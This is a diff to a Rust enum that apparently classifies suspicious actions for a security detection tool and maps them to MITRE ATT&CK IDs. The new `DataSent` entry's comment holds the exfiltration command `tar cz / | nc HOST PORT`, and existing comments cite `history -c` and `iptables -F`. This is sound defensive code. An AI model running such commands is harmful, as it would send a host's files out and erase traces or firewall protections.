@@ -27,6 +27,8 @@ pub enum Kind {
     ServiceAccountToken,
     /// The environment of another process is read, which often holds secrets.
     ProcessEnvironment,
+    /// Files or traffic are sent to another machine: `tar cz / | nc HOST PORT`.
+    DataSent,
     /// Traces or protections are removed: `history -c`, `iptables -F`.
     DefenseEvasion,
     /// Something is left behind that comes back: cron, SSH keys, accounts.
@@ -58,6 +60,7 @@ impl Kind {
             Self::SensitiveFile => "a file with credentials",
             Self::ServiceAccountToken => "the service account's token",
             Self::ProcessEnvironment => "the environment of a process",
+            Self::DataSent => "data sent to another machine",
             Self::DefenseEvasion => "removal of traces or protections",
             Self::Persistence => "a way to come back",
             Self::KubernetesClient => "a client of the Kubernetes API",
@@ -81,6 +84,7 @@ impl Kind {
             Self::MetadataCredentials | Self::InstanceMetadata => "T1552.005",
             Self::SensitiveFile | Self::ProcessEnvironment => "T1552.001",
             Self::ServiceAccountToken => "T1528",
+            Self::DataSent => "T1048",
             Self::DefenseEvasion => "T1562.001",
             Self::Persistence => "T1053.003",
             Self::KubernetesClient => "T1613",
